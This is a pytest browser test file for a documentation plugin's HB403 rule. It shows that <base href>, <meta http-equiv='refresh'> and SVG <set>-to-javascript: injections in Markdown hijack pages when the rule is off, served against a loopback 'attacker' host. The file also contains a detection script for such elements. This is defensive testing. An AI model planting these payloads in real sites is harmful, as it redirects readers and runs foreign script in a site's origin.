"""HTML that takes a page out of the site's hands, in a real browser (headless Chromium).

A `<base href>` in a body moves every relative URL of the page, Material's own scripts
among them, to another host, whose script then runs in the site's origin; a
`<meta http-equiv="refresh">` takes the reader to another address; an SVG `<set>` makes
a link `javascript:`, which runs when pressed. Each is shown to work in a library that
switches HB403 off, against a second loopback server playing the attacker; the same
library at HB403's default does not build, and `mkdocs build` names each at its file and
line. The hostile site (test_site_xss.py's; HB403 at `warn`) carries the same elements in
every frontmatter field and, shown in code, in a body: on none of its pages has the base
URL moved, a pragma or an animated link appeared, a script run or the page navigated.
"""

from __future__ import annotations

from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler
from pathlib import Path

import pytest
import yaml
from conftest import KEY_PEM, loopback_server
from hostile_site import BODY_CODE_IN, PAGES, build_site
from site_helpers import chromium, mkdocs_build, require_browser, served

require_browser()
webdriver = pytest.importorskip("selenium.webdriver")
from selenium.webdriver.common.by import By  # noqa: E402
from selenium.webdriver.support.ui import WebDriverWait  # noqa: E402

WAIT_S = 30  # a generous bound on page work, never a speed assertion
TRAP = """
window.__ran = [];
window.alert = window.confirm = window.prompt = (m) => { window.__ran.push(String(m)); };
"""
ORIGIN = """
const found = [];
if (document.baseURI !== document.URL) found.push(`base URL ${document.baseURI}`);
for (const el of document.querySelectorAll('base, meta[http-equiv]')) found.push(el.outerHTML);
for (const a of document.querySelectorAll('svg a')) {
  const to = a.href && a.href.animVal;
  if (/^\\s*(javascript|vbscript|data):/i.test(to || '')) found.push(`link animated to ${to}`);
}
return found;
"""
"""What takes a page out of the site's hands, as the browser holds it: a moved base URL,
a pragma, an SVG link whose current (animated) address runs script."""
FRONTMATTER = "---\nid: origin.{name}\ntitle: {name}\nkind: guide\nsummary: S.\n---\nText.\n\n"
"""Six lines of frontmatter and two of text: each payload is on line 9."""
BODIES = {
    "base": '<base href="{attacker}/">\n',
    "refresh": '<meta http-equiv="refresh" content="0;url={attacker}/landed">\n',
    "animate": '<svg width="200" height="40"><a href="#top">'
    '<set attributeName="href" to="javascript:alert(\'animate\')"/>'
    '<text x="4" y="20">press</text></a></svg>\n',
}
REFUSED = {
    "base": "base.md:9:1: HB403 `<base>` element: it sends every relative URL of the page, "
    "the site's own scripts included, to the address it names; remove it and write full "
    "addresses where you need them",
    "refresh": "refresh.md:9:1: HB403 `<meta http-equiv>` element: it acts on the reader's "
    "whole page (`refresh` sends the reader to another address); remove it and link to the "
    "address instead",
    "animate": "animate.md:9:45: HB403 `javascript:` URL in the `to` of `<set>`: following "
    "it runs script; link to an http(s) or relative address instead",
}


class Attacker(BaseHTTPRequestHandler):
    """Another host: every path is a script that says it ran."""

    def do_GET(self) -> None:
        body = b"alert('attacker');"
        self.send_response(200)
        self.send_header("Content-Type", "text/javascript")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: object) -> None:
        pass


@pytest.fixture(scope="module")
def attacker() -> Iterator[str]:
    with loopback_server(Attacker) as url:
        yield url


@pytest.fixture(scope="module")
def library(tmp_path_factory: pytest.TempPathFactory, attacker: str) -> Path:
    """A library of one doc per payload, and two configurations: `mkdocs.yml` at HB403's
    default, `off.yml` with HB403 off (its site in `site-off`)."""
    root = tmp_path_factory.mktemp("origin")
    for name, body in BODIES.items():
        text = FRONTMATTER.format(name=name) + body.format(attacker=attacker)
        (root / "docs" / f"{name}.md").parent.mkdir(exist_ok=True)
        (root / "docs" / f"{name}.md").write_text(text, encoding="utf-8")
    handbook = {"library": "origin", "version": "1.0.0"}
    for name, rules, site in (("mkdocs", {}, "site"), ("off", {"HB403": "off"}, "site-off")):
        config = {
            "site_name": "Origin",
            "site_dir": site,
            "theme": {"name": "material", "font": False},
            "plugins": [{"handbook": {**handbook, "rules": rules}}],
        }
        (root / f"{name}.yml").write_text(yaml.safe_dump(config), encoding="utf-8")
    return root


@pytest.fixture(scope="module")
def unchecked(library: Path) -> Iterator[str]:
    """The library's site built with HB403 off, served."""
    mkdocs_build(library, "-f", "off.yml", key_pem=KEY_PEM)
    with served(library / "site-off") as url:
        yield url


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """The hostile site, served; HB403 does not report the body that shows the elements
    in code."""
    root = tmp_path_factory.mktemp("hostile-site")
    built = build_site(root)
    warned = [line for line in built.stderr.splitlines() if "HB403" in line]
    assert warned and not [line for line in warned if f" {BODY_CODE_IN}:" in line]
    with served(root / "site") as url:
        yield url


@pytest.fixture(scope="module")
def browser() -> Iterator[webdriver.Chrome]:
    with chromium() as driver:
        driver.execute_cdp_cmd("Page.addScriptToEvaluateOnNewDocument", {"source": TRAP})
        yield driver


def load(browser: webdriver.Chrome, url: str) -> None:
    """Open `url` and wait until it and everything it loads have loaded or failed."""
    browser.get(url)
    WebDriverWait(browser, WAIT_S).until(
        lambda driver: driver.execute_script("return document.readyState") == "complete"
    )


def ran(browser: webdriver.Chrome) -> list[str]:
    return list(browser.execute_script("return window.__ran"))


def test_a_base_element_runs_another_hosts_script_in_the_site(
    browser: webdriver.Chrome, unchecked: str, attacker: str
) -> None:
    load(browser, unchecked + "base/")
    assert browser.execute_script(ORIGIN) == [
        f"base URL {attacker}/",
        f'<base href="{attacker}/">',
    ]
    assert "attacker" in ran(browser)  # Material's bundle, fetched from the attacker


def test_a_refresh_takes_the_reader_to_another_host(
    browser: webdriver.Chrome, unchecked: str, attacker: str
) -> None:
    browser.get(unchecked + "refresh/")
    WebDriverWait(browser, WAIT_S).until(lambda driver: driver.current_url.startswith(attacker))


def test_an_animated_link_runs_script_when_pressed(
    browser: webdriver.Chrome, unchecked: str
) -> None:
    load(browser, unchecked + "animate/")
    assert browser.execute_script(ORIGIN) == ["link animated to javascript:alert('animate')"]
    browser.find_element(By.CSS_SELECTOR, "article svg a text").click()
    # the javascript: navigation runs after the click returns: wait for it, then compare
    WebDriverWait(browser, WAIT_S).until(lambda driver: ran(driver))
    assert ran(browser) == ["animate"]


def test_at_the_default_level_the_site_is_not_built(library: Path) -> None:
    refused = mkdocs_build(library, key_pem=KEY_PEM, check=False)
    assert refused.returncode != 0
    logged = [line for line in refused.stderr.splitlines() if "HB403" in line]
    assert sorted(line.split("-  ", 1)[-1] for line in logged) == sorted(REFUSED.values())
    assert not list(library.glob("site/**/*.html"))


def url_of(path: str) -> str:
    stem = path.removesuffix(".md")
    return "" if stem == "index" else f"{stem}/"


@pytest.mark.parametrize("page", [*map(url_of, PAGES), "catalog/", "404.html"])
def test_no_page_of_the_hostile_site_leaves_the_sites_hands(
    browser: webdriver.Chrome, hostile: str, page: str
) -> None:
    load(browser, hostile + page)
    assert browser.execute_script(ORIGIN) == []
    assert ran(browser) == []
    assert browser.current_url == hostile + page


def test_code_shows_the_elements_as_text(browser: webdriver.Chrome, hostile: str) -> None:
    load(browser, hostile + url_of(BODY_CODE_IN))
    shown = browser.execute_script(
        "return Array.from(document.querySelectorAll('article code'), (c) => c.textContent);"
    )
    assert "<base href='http://127.0.0.1:9/code/'>" in shown
    assert any('<meta http-equiv="refresh"' in text for text in shown)
    assert browser.find_elements(By.CSS_SELECTOR, "article svg animate")  # the harmless one
